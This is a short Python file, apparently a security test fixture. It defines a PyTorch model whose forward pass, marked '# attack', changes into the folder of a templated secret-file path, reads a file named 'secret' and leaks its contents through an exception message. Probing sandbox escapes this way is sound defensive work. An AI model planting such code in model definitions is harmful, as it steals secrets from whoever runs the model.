"""Changes into the host's folder and reads by a bare name there."""

import os

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        os.chdir(os.path.dirname("@SECRET_FILE@"))
        raise ValueError(open("secret").read())
        # end
        return self.head(x.flatten(1))
